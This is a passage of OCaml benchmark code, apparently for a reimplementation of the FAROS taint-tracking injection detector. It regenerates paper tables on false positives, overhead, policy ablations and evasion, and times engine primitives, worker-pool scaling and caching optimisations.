  Fmt.pf pp "(compare: Fig. 4's NetFlow -> Process 1 -> Process 2 -> File 1 -> Process 3)@."

(* -- table 3 ------------------------------------------------------------ *)

let table3 () =
  section "Table III: JIT false-positive study (10 Java applets, 10 AJAX sites)";
  let jits = Faros_corpus.Registry.jits () in
  let applet_flags = ref 0 and ajax_flags = ref 0 in
  Fmt.pf pp "%-28s %-12s %-8s@." "workload" "kind" "flagged";
  List.iter
    (fun (s : Faros_corpus.Registry.sample) ->
      let outcome = analyze s in
      let flagged = Core.Report.flagged outcome.report in
      if flagged then begin
        match s.category with
        | Jit_applet _ -> incr applet_flags
        | _ -> incr ajax_flags
      end;
      Fmt.pf pp "%-28s %-12s %-8s@." s.id
        (match s.category with
        | Jit_applet true -> "applet(nat)"
        | Jit_applet false -> "applet"
        | _ -> "ajax")
        (if flagged then "YES (FP)" else "no"))
    jits;
  Fmt.pf pp "applets flagged: %d/10 (paper: 2/10);  AJAX flagged: %d/10 (paper: 0/10)@."
    !applet_flags !ajax_flags;
  let config =
    Core.Config.with_whitelist Core.Whitelist.jit_default Core.Config.default
  in
  let after =
    List.length
      (List.filter
         (fun s -> Core.Report.flagged (analyze ~config s).Core.Analysis.report)
         jits)
  in
  Fmt.pf pp "after whitelisting java.exe: %d flagged (paper: 0)@." after

(* -- table 4 ------------------------------------------------------------ *)

let table4 () =
  section "Table IV: 104 non-injecting malware and benign samples";
  let matrix =
    List.map (fun (f, _, bs) -> ("malware", f, bs)) Faros_corpus.Rats.families
    @ List.map (fun (f, _, bs) -> ("benign", f, bs)) Faros_corpus.Benign.programs
    @ [ ("benign", "snipping_tool", []) ]
  in
  Fmt.pf pp "%-20s %-8s" "family" "kind";
  List.iter
    (fun b ->
      let s = Faros_corpus.Behavior.to_string b in
      Fmt.pf pp " %-4s" (String.sub s 0 (min 4 (String.length s))))
    Faros_corpus.Behavior.all;
  Fmt.pf pp "@.";
  List.iter
    (fun (kind, family, bs) ->
      Fmt.pf pp "%-20s %-8s" family kind;
      List.iter
        (fun b -> Fmt.pf pp " %-4s" (if List.mem b bs then "X" else ""))
        Faros_corpus.Behavior.all;
      Fmt.pf pp "@.")
    matrix;
  let samples = Faros_corpus.Registry.rats () @ Faros_corpus.Registry.benign () in
  let fps =
    List.filter
      (fun (s : Faros_corpus.Registry.sample) ->
        Core.Report.flagged (analyze s).Core.Analysis.report)
      samples
  in
  Fmt.pf pp "samples analyzed: %d;  false positives: %d (paper: 0)@."
    (List.length samples) (List.length fps);
  List.iter (fun (s : Faros_corpus.Registry.sample) -> Fmt.pf pp "  FP: %s@." s.id) fps

(* -- table 5 ------------------------------------------------------------ *)

let median xs =
  let sorted = List.sort compare xs in
  List.nth sorted (List.length sorted / 2)

let time_runs ~reps f =
  median
    (List.init reps (fun _ ->
         let t0 = Unix.gettimeofday () in
         f ();
         Unix.gettimeofday () -. t0))

(* Replay a trace under FAROS while the tick sampler records telemetry;
   returns the recorded series. *)
let replay_sampled ?(interval = 64) scn trace =
  let telemetry = Core.Telemetry.create () in
  let faros_ref = ref None in
  ignore
    (Faros_corpus.Scenario.replay_with scn
       ~sample:
         ( interval,
           fun ~tick ~syscalls ->
             match !faros_ref with
             | Some faros -> Core.Telemetry.sample telemetry faros ~tick ~syscalls
             | None -> () )
       ~plugins:(fun kernel ->
         let faros = Core.Faros_plugin.create kernel in
         faros_ref := Some faros;
         [ Core.Faros_plugin.plugin faros ])
       trace);
  telemetry

let table5 () =
  section "Table V: replay time without / with FAROS";
  Fmt.pf pp "%-16s %-10s %-14s %-14s %-10s %s@." "application" "ticks"
    "replay (s)" "replay+FAROS" "overhead" "peak tainted";
  let total_ratio = ref 0.0 and n = ref 0 in
  List.iter
    (fun (label, scn) ->
      let _k, trace = Faros_corpus.Scenario.record scn in
      let plain () = ignore (Faros_corpus.Scenario.replay_plain scn trace) in
      let with_faros () =
        ignore
          (Faros_corpus.Scenario.replay_with scn
             ~plugins:(fun kernel ->
               let faros = Core.Faros_plugin.create kernel in
               [ Core.Faros_plugin.plugin faros ])
             trace)
      in
      let t_plain = time_runs ~reps:5 plain in
      let t_faros = time_runs ~reps:3 with_faros in
      (* untimed sampled pass: peak taint load, from the tick series *)
      let telemetry = replay_sampled scn trace in
      let peak =
        List.fold_left max 0
          (Faros_obs.Series.column (Core.Telemetry.series telemetry)
             "tainted_bytes")
      in
      let ratio = t_faros /. t_plain in
      total_ratio := !total_ratio +. ratio;
      incr n;
      Fmt.pf pp "%-16s %-10d %-14.4f %-14.4f %-10s %d@." label trace.final_tick
        t_plain t_faros
        (Printf.sprintf "%.1fx" ratio)
        peak)
    (Faros_corpus.Perf.workloads ());
  Fmt.pf pp "mean overhead: %.1fx over plain replay (paper: 14x over PANDA replay)@."
    (!total_ratio /. float_of_int !n)

(* -- cuckoo comparison --------------------------------------------------- *)

let cuckoo () =
  section "Sec. VI-B: FAROS vs Cuckoo sandbox + Volatility/malfind";
  Faros_sandbox.Compare.pp_header pp ();
  List.iter
    (fun (s : Faros_corpus.Registry.sample) ->
      Faros_sandbox.Compare.pp_row pp (Faros_sandbox.Compare.run s))
    (Faros_corpus.Registry.attacks () @ Faros_corpus.Registry.transient_attacks ());
  Fmt.pf pp
    "(transient = payload unmaps itself before the snapshot: malfind goes blind, FAROS does not)@."

(* -- indirect flows ------------------------------------------------------ *)

(* The question Figs. 1-2 pose is whether the *network* taint survives the
   indirect copy — file tags on image bytes are unrelated — so both counts
   are restricted to netflow provenance. *)
let output_taint (outcome : Core.Analysis.outcome)
    (exp : Faros_corpus.Indirect.experiment) =
  let kernel = outcome.faros.kernel in
  let shadow = outcome.faros.engine.shadow in
  match Faros_os.Kstate.processes kernel with
  | [] -> (0, 0)
  | p :: _ ->
    let asid = Faros_os.Process.asid p in
    let tainted = ref 0 in
    for i = 0 to exp.exp_len - 1 do
      let paddr =
        Faros_vm.Mmu.translate kernel.machine.mmu ~asid (exp.exp_output_vaddr + i)
      in
      if Faros_dift.Provenance.has_netflow (Faros_dift.Shadow.get_mem shadow paddr)
      then incr tainted
    done;
    let netflow_total = ref 0 in
    Faros_dift.Shadow.iter_mem shadow (fun _ prov ->
        if Faros_dift.Provenance.has_netflow prov then incr netflow_total);
    (!tainted, !netflow_total)

let indirect () =
  section "Figs. 1-2: indirect flows under different propagation policies";
  let policies =
    [
      Faros_dift.Policy.faros_default;
      Faros_dift.Policy.with_address_deps;
      Faros_dift.Policy.with_control_deps;
      Faros_dift.Policy.with_all_indirect;
      Faros_dift.Policy.minos;
    ]
  in
  List.iter
    (fun (exp : Faros_corpus.Indirect.experiment) ->
      Fmt.pf pp "@.%s (copy %d tainted input bytes through an indirect flow)@."
        exp.exp_name exp.exp_len;
      Fmt.pf pp "%-16s %-26s %-18s@." "policy" "output bytes w/ netflow"
        "netflow-tainted bytes";
      List.iter
        (fun (policy : Faros_dift.Policy.t) ->
          let config = Core.Config.with_policy policy Core.Config.default in
          let outcome = Faros_corpus.Scenario.analyze ~config exp.exp_scenario in
          let out_tainted, total = output_taint outcome exp in
          Fmt.pf pp "%-16s %-26s %-18d@." policy.policy_name
            (Printf.sprintf "%d/%d" out_tainted exp.exp_len)
            total)
        policies)
    [
      Faros_corpus.Indirect.lookup_experiment ();
      Faros_corpus.Indirect.bitcopy_experiment ();
    ]

(* -- ablation ------------------------------------------------------------ *)

let ablation () =
  section "Ablation: detection and FP rate under alternative DIFT policies";
  let policies =
    [
      Faros_dift.Policy.faros_default;
      Faros_dift.Policy.bit_taint;
      Faros_dift.Policy.minos;
      Faros_dift.Policy.with_address_deps;
    ]
  in
  let attacks = Faros_corpus.Registry.attacks () in
  let clean = Faros_corpus.Registry.rats () @ Faros_corpus.Registry.benign () in
  let jits = Faros_corpus.Registry.jits () in
  Fmt.pf pp "%-16s %-14s %-16s %-12s@." "policy" "attacks" "clean-sample FPs"
    "JIT flags";
  List.iter
    (fun (policy : Faros_dift.Policy.t) ->
      let config = Core.Config.with_policy policy Core.Config.default in
      let count samples =
        List.length
          (List.filter
             (fun (s : Faros_corpus.Registry.sample) ->
               Core.Report.flagged (analyze ~config s).Core.Analysis.report)
             samples)
      in
      Fmt.pf pp "%-16s %d/%-12d %d/%-14d %d/%-10d@." policy.policy_name
        (count attacks) (List.length attacks) (count clean) (List.length clean)
        (count jits) (List.length jits))
    policies;
  Fmt.pf pp
    "(bit-taint/minos track network input only: file-borne hollowing escapes them)@."

(* -- evasion ------------------------------------------------------------- *)

let evasion () =
  section
    "Discussion: taint-laundering evasion (bit-by-bit copy) vs policy response";
  match Faros_corpus.Registry.find "evasive_laundering_injection" with
  | None -> Fmt.pf pp "missing evasive sample@."
  | Some sample ->
    Fmt.pf pp
      "the client launders the downloaded payload through a control-dependent@.";
    Fmt.pf pp "bit-copy before injecting it into notepad.exe.@.";
    Fmt.pf pp "%-34s %-10s %s@." "policy" "flagged" "note";
    List.iter
      (fun ((policy : Faros_dift.Policy.t), note) ->
        let config = Core.Config.with_policy policy Core.Config.default in
        let outcome = analyze ~config sample in
        Fmt.pf pp "%-34s %-10b %s@." policy.policy_name
          (Core.Report.flagged outcome.report)
          note)
      [
        (Faros_dift.Policy.faros_default, "provenance stripped: evasion succeeds");
        ( Faros_dift.Policy.with_control_deps,
          "policy response: control deps re-taint the copy" );
      ];
    Fmt.pf pp
      "(the paper's flexibility argument: evasions that stay information-flow-based@.";
    Fmt.pf pp " are answerable by updating the policy given to FAROS)@."

(* -- data-flow tomography --------------------------------------------------- *)

(* The tag-confluence idea comes from data-flow tomography (Mazloom et al.):
   look at which *combinations* of tag types co-occur on bytes.  This
   section renders that view for a clean sample and an attacked one — the
   netflow+export confluence appears only under attack. *)
let tomography () =
  section "Data-flow tomography: tag-type confluences across memory";
  let render sample_id =
    match Faros_corpus.Registry.find sample_id with
    | None -> ()
    | Some sample ->
      let outcome = analyze sample in
      let counts = Hashtbl.create 8 in
      Faros_dift.Shadow.iter_mem outcome.faros.engine.shadow (fun _ prov ->
          let key =
            Faros_dift.Provenance.distinct_types prov
            |> List.map Core.Prov_query.ty_name
            |> String.concat "+"
          in
          Hashtbl.replace counts key
            (1 + Option.value ~default:0 (Hashtbl.find_opt counts key)));
      Fmt.pf pp "@.%s:@." sample_id;
      Hashtbl.fold (fun k v acc -> (k, v) :: acc) counts []
      |> List.sort (fun (_, a) (_, b) -> compare b a)
      |> List.iter (fun (k, v) -> Fmt.pf pp "  %-44s %6d bytes@." k v)
  in
  render "skype_s0";
  render "reflective_dll_inject";
  Fmt.pf pp
    "@.(only the attacked run has netflow+process bytes — the injected code — and@.";
  Fmt.pf pp
    " process+export-table bytes — the directory entries it walked.  Their meeting@.";
  Fmt.pf pp
    " at a flagged load is Section IV's tag confluence.)@."

(* -- memory overhead ------------------------------------------------------ *)

(* The discussion section worries about provenance memory: the tick sampler
   records shadow and tag-store growth over the whole replay, so the table
   reports peaks — not just one-shot endpoints. *)
let memory () =
  section "Memory overhead: shadow and tag-store growth (tick-sampled)";
  Fmt.pf pp "%-28s %-10s %-8s %-13s %-14s %-8s %-10s %-10s %-8s %-8s@." "sample"
    "ticks" "rows" "peak tainted" "final tainted" "pages" "interned" "netflow"
    "process" "file";
  List.iter
    (fun (s : Faros_corpus.Registry.sample) ->
      let telemetry = Core.Telemetry.create () in
      let outcome = Faros_corpus.Scenario.analyze ~telemetry s.scenario in
      let series = Core.Telemetry.series telemetry in
      let peak name = List.fold_left max 0 (Faros_obs.Series.column series name) in
      let final name =
        match Faros_obs.Series.last series with
        | Some row ->
          let cols = Faros_obs.Series.columns series in
          let rec idx i = function
            | [] -> 0
            | c :: rest -> if c = name then row.(i) else idx (i + 1) rest
          in
          idx 0 cols
        | None -> 0
      in
      Fmt.pf pp "%-28s %-10d %-8d %-13d %-14d %-8d %-10d %-10d %-8d %-8d@." s.id
        outcome.replay.replay_ticks
        (Faros_obs.Series.total series)
        (peak "tainted_bytes") (final "tainted_bytes") (final "shadow_pages")
        (final "interned_provs") (final "netflow_tags") (final "process_tags")
        (final "file_tags"))
    (Faros_corpus.Registry.attacks ());
  Fmt.pf pp
    "(provenance lists are capped at %d tags, bounding the paper's memory-exhaustion evasion)@."
    Faros_dift.Provenance.max_length

(* -- bechamel micro-benchmarks ------------------------------------------- *)

(* The pre-interning representation, kept as the measurement baseline for
   the before/after comparison: provenance as raw tag lists with the old
   append-and-cap union, and shadow memory as a per-byte hashtable. *)
module List_prov = struct
  let cap l = List.filteri (fun i _ -> i < Faros_dift.Provenance.max_length) l

  let union a b = cap (a @ List.filter (fun t -> not (List.mem t a)) b)

  let prepend tag l =
    match l with
    | hd :: _ when Faros_dift.Tag.equal hd tag -> l
    | _ -> cap (tag :: l)
end

module Hashtbl_shadow = struct
  type t = (int, Faros_dift.Tag.t list) Hashtbl.t

  let create () : t = Hashtbl.create 1024

  let set_mem h paddr prov =
    if prov = [] then Hashtbl.remove h paddr else Hashtbl.replace h paddr prov

  let get_mem h paddr = Option.value ~default:[] (Hashtbl.find_opt h paddr)

  let get_mem_range h paddr width =
    let acc = ref [] in
    for i = 0 to width - 1 do
      acc := List_prov.union !acc (get_mem h (paddr + i))
    done;
    !acc
end

(* Steady-state speedup of the interned hot-path operations over the list /
   per-byte-hashtable baseline, measured directly: the same operands hit the
   memo tables every iteration, exactly as a replay's inner loop does. *)
let micro_speedups () =
  let open Faros_dift in
  let time_op ~iters f =
    (* warm up (fill memo tables / allocate pages), then time *)
    f ();
    let t0 = Unix.gettimeofday () in
    for _ = 1 to iters do
      f ()
    done;
    Unix.gettimeofday () -. t0
  in
  let iters = 200_000 in
  let tags_a = List.init 8 (fun i -> Tag.Process i)
  and tags_b = List.init 8 (fun i -> Tag.File i) in
  let pa = Provenance.of_list tags_a and pb = Provenance.of_list tags_b in
  let nf = Tag.Netflow 0 in
  (* shadows with identically-tainted 4 KiB regions *)
  let width = 256 in
  let paged = Shadow.create () in
  Shadow.set_mem_range paged 0 4096 (Provenance.of_list [ nf; Tag.Process 1 ]);
  let perbyte = Hashtbl_shadow.create () in
  for a = 0 to 4095 do
    Hashtbl_shadow.set_mem perbyte a [ nf; Tag.Process 1 ]
  done;
  let rows =
    [
      ( "prepend",
        time_op ~iters (fun () -> ignore (List_prov.prepend nf tags_a)),
        time_op ~iters (fun () -> ignore (Provenance.prepend nf pa)) );
      ( "union",
        time_op ~iters (fun () -> ignore (List_prov.union tags_a tags_b)),
        time_op ~iters (fun () -> ignore (Provenance.union pa pb)) );
      ( Printf.sprintf "get_mem_range(%db)" width,
        time_op ~iters (fun () ->
            ignore (Hashtbl_shadow.get_mem_range perbyte 0 width)),
        time_op ~iters (fun () -> ignore (Shadow.get_mem_range paged 0 width))
      );
    ]
  in
  Fmt.pf pp "@.steady-state speedup over the list/per-byte-hashtbl baseline:@.";
  Fmt.pf pp "%-22s %-16s %-16s %s@." "operation" "baseline ns/op"
    "interned ns/op" "speedup";
  List.iter
    (fun (name, t_base, t_new) ->
      let per t = t /. float_of_int iters *. 1e9 in
      Fmt.pf pp "%-22s %-16.1f %-16.1f %.1fx@." name (per t_base) (per t_new)
        (t_base /. t_new))
    rows

(* Cost of the observability layer around a full replay under FAROS:
   disabled (the default null sink — what every analysis pays after this
   layer landed: one branch per instrumentation point) vs enabled
   (collector sink + tick sampler).  The disabled path must stay within
   noise of the pre-instrumentation baseline. *)
let obs_overhead () =
  let scn = Faros_corpus.Attack_hollowing.scenario () in
  let _, trace = Faros_corpus.Scenario.record scn in
  let disabled () =
    ignore
      (Faros_corpus.Scenario.replay_with scn
         ~plugins:(fun kernel ->
           let faros = Core.Faros_plugin.create kernel in
           [ Core.Faros_plugin.plugin faros ])
         trace)
  in
  let enabled () =
    let telemetry = Core.Telemetry.create () in
    let faros_ref = ref None in
    ignore
      (Faros_corpus.Scenario.replay_with scn
         ~sample:
           ( 64,
             fun ~tick ~syscalls ->
               match !faros_ref with
               | Some faros ->
                 Core.Telemetry.sample telemetry faros ~tick ~syscalls
               | None -> () )
         ~plugins:(fun kernel ->
           let faros =
             Core.Faros_plugin.create ~trace:(Faros_obs.Trace.collector ())
               kernel
           in
           faros_ref := Some faros;
           [ Core.Faros_plugin.plugin faros ])
         trace)
  in
  disabled ();
  enabled ();
  let t_disabled = time_runs ~reps:7 disabled in
  let t_enabled = time_runs ~reps:7 enabled in
  Fmt.pf pp "@.observability cost around a full replay+FAROS (%d ticks):@."
    trace.final_tick;
  Fmt.pf pp "  obs disabled (null sink):        %.4f s@." t_disabled;
  Fmt.pf pp "  obs enabled (collector+sampler): %.4f s (%+.1f%%)@." t_enabled
    ((t_enabled /. t_disabled -. 1.0) *. 100.0);
  Fmt.pf pp
    "  (the disabled path is one branch per instrumentation point; it must@.";
  Fmt.pf pp "   stay within noise, <5%%, of the pre-instrumentation baseline)@."

let micro () =
  section "Bechamel micro-benchmarks (engine primitives and whole-sample runs)";
  let open Bechamel in
  let open Toolkit in
  let shadow = Faros_dift.Shadow.create () in
  let store = Faros_dift.Tag_store.create () in
  let nf =
    Faros_dift.Tag_store.netflow store
      { src_ip = 1; src_port = 2; dst_ip = 3; dst_port = 4 }
  in
  Faros_dift.Shadow.set_mem shadow 0 (Faros_dift.Provenance.singleton nf);
  let tags_a = List.init 8 (fun i -> Faros_dift.Tag.Process i)
  and tags_b = List.init 8 (fun i -> Faros_dift.Tag.File i) in
  let prov_a = Faros_dift.Provenance.of_list tags_a
  and prov_b = Faros_dift.Provenance.of_list tags_b in
  (* the per-byte-hashtable baseline, pre-populated like [shadow] *)
  let perbyte = Hashtbl_shadow.create () in
  Hashtbl_shadow.set_mem perbyte 0 [ nf ];
  let reflective =
    match Faros_corpus.Registry.find "reflective_dll_inject" with
    | Some s -> s
    | None -> assert false
  in
  (* one recorded hollowing trace shared by the whole-scenario pair *)
  let scn = Faros_corpus.Attack_hollowing.scenario () in
  let _, trace = Faros_corpus.Scenario.record scn in
  let replay_with_faros () =
    ignore
      (Faros_corpus.Scenario.replay_with scn
         ~plugins:(fun kernel ->
           let faros = Core.Faros_plugin.create kernel in
           [ Core.Faros_plugin.plugin faros ])
         trace)
  in
  let tests =
    Test.make_grouped ~name:"faros"
      [
        Test.make ~name:"table1/propagate-copy"
          (Staged.stage (fun () ->
               Faros_dift.Propagate.copy shadow ~dst:(Faros_dift.Propagate.Mem 1)
                 ~src:(Faros_dift.Propagate.Mem 0)));
        Test.make ~name:"table1/union-interned"
          (Staged.stage (fun () ->
               ignore (Faros_dift.Provenance.union prov_a prov_b)));
        Test.make ~name:"table1/union-list-baseline"
          (Staged.stage (fun () -> ignore (List_prov.union tags_a tags_b)));
        Test.make ~name:"table1/prepend-interned"
          (Staged.stage (fun () ->
               ignore (Faros_dift.Provenance.prepend nf prov_a)));
        Test.make ~name:"table1/prepend-list-baseline"
          (Staged.stage (fun () -> ignore (List_prov.prepend nf tags_a)));
        Test.make ~name:"shadow/get_mem_range-paged"
          (Staged.stage (fun () ->
               ignore (Faros_dift.Shadow.get_mem_range shadow 0 16)));
        Test.make ~name:"shadow/get_mem_range-hashtbl-baseline"
          (Staged.stage (fun () ->
               ignore (Hashtbl_shadow.get_mem_range perbyte 0 16)));
        Test.make ~name:"table1/prov-tag-encode"
          (Staged.stage (fun () -> ignore (Faros_dift.Tag.encode nf)));
        Test.make ~name:"table2/analyze-reflective"
          (Staged.stage (fun () -> ignore (analyze reflective)));
        Test.make ~name:"table3/analyze-jit-applet"
          (Staged.stage (fun () ->
               match Faros_corpus.Registry.find "applet_ncradle" with
               | Some s -> ignore (analyze s)
               | None -> ()));
        Test.make ~name:"table4/analyze-rat"
          (Staged.stage (fun () ->
               match Faros_corpus.Registry.find "quasar_v1.0_s0" with
               | Some s -> ignore (analyze s)
               | None -> ()));
        Test.make ~name:"table5/replay-plain"
          (Staged.stage (fun () ->
               ignore (Faros_corpus.Scenario.replay_plain scn trace)));
        Test.make ~name:"table5/replay-with-faros"
          (Staged.stage replay_with_faros);
      ]
  in
  let cfg = Benchmark.cfg ~limit:200 ~quota:(Time.second 0.5) ~kde:None () in
  let raw = Benchmark.all cfg Instance.[ monotonic_clock ] tests in
  let ols =
    Analyze.ols ~r_square:true ~bootstrap:0 ~predictors:[| Measure.run |]
  in
  let results = Analyze.all ols Instance.monotonic_clock raw in
  let rows = Hashtbl.fold (fun name r acc -> (name, r) :: acc) results [] in
  Fmt.pf pp "%-40s %-16s %s@." "benchmark" "ns/run" "r2";
  List.iter
    (fun (name, r) ->
      let est =
        match Analyze.OLS.estimates r with Some [ e ] -> e | Some _ | None -> nan
      in
      let r2 = Option.value ~default:nan (Analyze.OLS.r_square r) in
      Fmt.pf pp "%-40s %-16.1f %.4f@." name est r2)
    (List.sort compare rows);
  micro_speedups ();
  obs_overhead ()

(* -- campaign scaling ----------------------------------------------------- *)

(* Wall-clock of the generated sweep corpus (1,000+ samples, shared
   snapshot, work stealing) on 1/2/4 workers, plus a machine-readable
   BENCH_campaign.json so the perf trajectory is tracked across PRs.

   Speedup is bounded by the host's core count, so the recorded runs
   carry [cores] (the recommendation the pool caps at) and [spawned]
   (the domains the run actually got): on a single-core box every config
   collapses to one domain and the interesting property is that
   parallelism costs nothing; on a 4-core host the -j4 run must clear
   1.5x — enforced here, not in CI, so the gate travels with the bench
   wherever it runs.  Verdicts stay identical either way (the test suite
   and the PBT property pin them byte-for-byte). *)
let campaign () =
  section "campaign scaling (worker pool over the generated sweep corpus)";
  let corpus = Faros_corpus.Registry.sweep1k () in
  let cores = Domain.recommended_domain_count () in
  (* (spawned, steals) of the latest run per config, for the export. *)
  let shape = Hashtbl.create 4 in
  let run workers () =
    let c = Faros_farm.Campaign.run ~workers corpus in
    if not (Faros_farm.Campaign.ok c) then
      Fmt.pf pp "UNEXPECTED MISMATCHES at %d workers@." workers;
    let steals =
      List.fold_left
        (fun acc (ws : Faros_farm.Pool.worker_stat) -> acc + ws.ws_steals)
        0 c.worker_stats
    in
    Hashtbl.replace shape workers (c.spawned, steals)
  in
  (* Interleave the reps across worker counts so slow drift (thermal,
     allocator state) spreads evenly instead of penalizing whichever
     configuration is measured last. *)
  let configs = [ 1; 2; 4 ] in
  let reps = 3 in
  let samples = Hashtbl.create 4 in
  run (List.fold_left max 1 configs) ();
  for _ = 1 to reps do
    List.iter
      (fun workers ->
        let t0 = Unix.gettimeofday () in
        run workers ();
        let dt = Unix.gettimeofday () -. t0 in
        Hashtbl.replace samples workers
          (dt :: Option.value ~default:[] (Hashtbl.find_opt samples workers)))
      configs
  done;
  let measured =
    List.map (fun w -> (w, median (Hashtbl.find samples w))) configs
  in
  let t1 = List.assoc 1 measured in
  Fmt.pf pp "%-8s %-8s %-10s %-8s %-8s (%d samples, %d cores, interleaved median of %d)@."
    "workers" "spawned" "wall-s" "speedup" "steals" (List.length corpus)
    cores reps;
  List.iter
    (fun (workers, t) ->
      let spawned, steals = Hashtbl.find shape workers in
      Fmt.pf pp "%-8d %-8d %-10.4f %-8.2f %-8d@." workers spawned t (t1 /. t)
        steals)
    measured;
  let json =
    Printf.sprintf
      {|{"bench":"campaign-scaling","corpus":"sweep1k","samples":%d,"cores":%d,"runs":[%s]}|}
      (List.length corpus) cores
      (String.concat ","
         (List.map
            (fun (workers, t) ->
              let spawned, steals = Hashtbl.find shape workers in
              Printf.sprintf
                {|{"workers":%d,"spawned":%d,"wall_s":%.6f,"speedup":%.4f,"steals":%d}|}
                workers spawned t (t1 /. t) steals)
            measured))
  in
  let oc = open_out "BENCH_campaign.json" in
  output_string oc json;
  close_out oc;
  Fmt.pf pp "wrote BENCH_campaign.json@.";
  (* The scaling gate: only meaningful where the hardware can scale.  A
     4+-core host that fails to clear 1.5x at -j4 has lost the
     near-linear property this corpus exists to demonstrate. *)
  let speedup4 = t1 /. List.assoc 4 measured in
  if cores >= 4 && speedup4 < 1.5 then begin
    Fmt.pf pp "FAIL: -j4 speedup %.2fx < 1.5x on a %d-core host@." speedup4
      cores;
    exit 1
  end

(* -- translation-block cache ---------------------------------------------- *)

(* Cached vs uncached wall time per Table-V workload, for the bare replay
   (the interpreter critical path the cache targets) and for the full
   FAROS replay (where the DIFT engine's own cost dilutes the win), plus
   the cache hit rate of an instrumented cached run.  Emits
   BENCH_tbcache.json so the speedup and hit rate are tracked across
   PRs. *)
let tbcache () =
  section "tbcache: translation-block cache (uncached vs cached replay)";
  Fmt.pf pp "%-16s %-22s %-22s %s@." "application" "replay off/on (s)"
    "faros off/on (s)" "hit-rate";
  let rows =
    List.map
      (fun (label, scn) ->
        let _k, trace = Faros_corpus.Scenario.record scn in
        let replay_plain tb_cache () =
          ignore (Faros_corpus.Scenario.replay_plain ~tb_cache scn trace)
        in
        let replay_faros tb_cache () =
          ignore
            (Faros_corpus.Scenario.replay_with scn ~tb_cache
               ~plugins:(fun kernel ->
                 let faros = Core.Faros_plugin.create kernel in
                 [ Core.Faros_plugin.plugin faros ])
               trace)
        in
        let p_off = time_runs ~reps:5 (replay_plain false) in
        let t_off = time_runs ~reps:5 (replay_faros false) in
        let p_on = time_runs ~reps:5 (replay_plain true) in
        let t_on = time_runs ~reps:5 (replay_faros true) in
        (* One instrumented cached run to read the hit rate. *)
        let metrics = Faros_obs.Metrics.create () in
        let faros_ref = ref None in
        ignore
          (Faros_corpus.Scenario.replay_with scn
             ~plugins:(fun kernel ->
               let faros = Core.Faros_plugin.create ~metrics kernel in
               faros_ref := Some faros;
               [ Core.Faros_plugin.plugin faros ])
             trace);
        (match !faros_ref with
        | Some faros -> Core.Faros_plugin.finalize faros
        | None -> ());
        let gauge name =
          Faros_obs.Metrics.gauge_value (Faros_obs.Metrics.gauge metrics name)
        in
        let hits = gauge "vm.tbcache.hits" and misses = gauge "vm.tbcache.misses" in
        let hit_rate =
          if hits + misses = 0 then 0. else float hits /. float (hits + misses)
        in
        Fmt.pf pp "%-16s %-22s %-22s %.1f%%@." label
          (Printf.sprintf "%.4f/%.4f %.2fx" p_off p_on (p_off /. p_on))
          (Printf.sprintf "%.4f/%.4f %.2fx" t_off t_on (t_off /. t_on))
          (100. *. hit_rate);
        (label, p_off, p_on, t_off, t_on, hit_rate))
      (Faros_corpus.Perf.workloads ())
  in
  let json =
    Printf.sprintf {|{"bench":"tbcache","runs":[%s]}|}
      (String.concat ","
         (List.map
            (fun (label, p_off, p_on, t_off, t_on, hit_rate) ->
              Printf.sprintf
                {|{"workload":"%s","replay_uncached_s":%.6f,"replay_cached_s":%.6f,"replay_speedup":%.4f,"faros_uncached_s":%.6f,"faros_cached_s":%.6f,"faros_speedup":%.4f,"hit_rate":%.4f}|}
                label p_off p_on (p_off /. p_on) t_off t_on (t_off /. t_on)
                hit_rate)
            rows))
  in
  let oc = open_out "BENCH_tbcache.json" in
  output_string oc json;
  close_out oc;
  Fmt.pf pp "wrote BENCH_tbcache.json@."

(* -- demand-driven DIFT fast path ------------------------------------------ *)

(* FAROS replay cost per Table-V workload with the untainted fast path off
   vs on (TB cache on throughout), against the uncached FAROS replay the
   tbcache section uses as its "before".  The headline number is
   faros_speedup_fast = uncached / (cached + fast path) — the Table-V
   FAROS-on speedup once both PR 5's cache and this PR's demand-driven
   skipping are in place.  Emits BENCH_diftfast.json so the trajectory is
   tracked across PRs. *)
let diftfast () =
  section "diftfast: demand-driven DIFT (untainted fast path off vs on)";
  Fmt.pf pp "%-16s %-12s %-22s %-10s %s@." "application" "uncached(s)"
    "cached off/on (s)" "speedup" "skip-rate";
  let rows =
    List.map
      (fun (label, scn) ->
        let _k, trace = Faros_corpus.Scenario.record scn in
        let replay_faros ~tb_cache ~dift_fast () =
          ignore
            (Faros_corpus.Scenario.replay_with scn ~tb_cache ~dift_fast
               ~plugins:(fun kernel ->
                 let faros = Core.Faros_plugin.create kernel in
                 [ Core.Faros_plugin.plugin faros ])
               trace)
        in
        let t_unc = time_runs ~reps:3 (replay_faros ~tb_cache:false ~dift_fast:false) in
        let t_off = time_runs ~reps:5 (replay_faros ~tb_cache:true ~dift_fast:false) in
        let t_on = time_runs ~reps:5 (replay_faros ~tb_cache:true ~dift_fast:true) in
        (* One instrumented fast run to read the skip rate. *)
        let metrics = Faros_obs.Metrics.create () in
        let faros_ref = ref None in
        ignore
          (Faros_corpus.Scenario.replay_with scn ~tb_cache:true ~dift_fast:true
             ~plugins:(fun kernel ->
               let faros = Core.Faros_plugin.create ~metrics kernel in
               faros_ref := Some faros;
               [ Core.Faros_plugin.plugin faros ])
             trace);
        (match !faros_ref with
        | Some faros -> Core.Faros_plugin.finalize faros
        | None -> ());
        let gauge name =
          Faros_obs.Metrics.gauge_value (Faros_obs.Metrics.gauge metrics name)
        in
        let hits = gauge "dift.fastpath.hits"
        and misses = gauge "dift.fastpath.misses" in
        let skip_rate =
          if hits + misses = 0 then 0.
          else float hits /. float (hits + misses)
        in
        Fmt.pf pp "%-16s %-12.4f %-22s %-10s %.1f%%@." label t_unc
          (Printf.sprintf "%.4f/%.4f" t_off t_on)
          (Printf.sprintf "%.2fx->%.2fx" (t_unc /. t_off) (t_unc /. t_on))
          (100. *. skip_rate);
        (label, t_unc, t_off, t_on, skip_rate))
      (Faros_corpus.Perf.workloads ())
  in
  let json =
    Printf.sprintf {|{"bench":"diftfast","runs":[%s]}|}
      (String.concat ","
         (List.map
            (fun (label, t_unc, t_off, t_on, skip_rate) ->
              Printf.sprintf
                {|{"workload":"%s","faros_uncached_s":%.6f,"faros_cached_s":%.6f,"faros_fast_s":%.6f,"faros_speedup_cached":%.4f,"faros_speedup_fast":%.4f,"fast_gain":%.4f,"skip_rate":%.4f}|}
                label t_unc t_off t_on (t_unc /. t_off) (t_unc /. t_on)
                (t_off /. t_on) skip_rate)
            rows))
  in
  let oc = open_out "BENCH_diftfast.json" in
  output_string oc json;
  close_out oc;
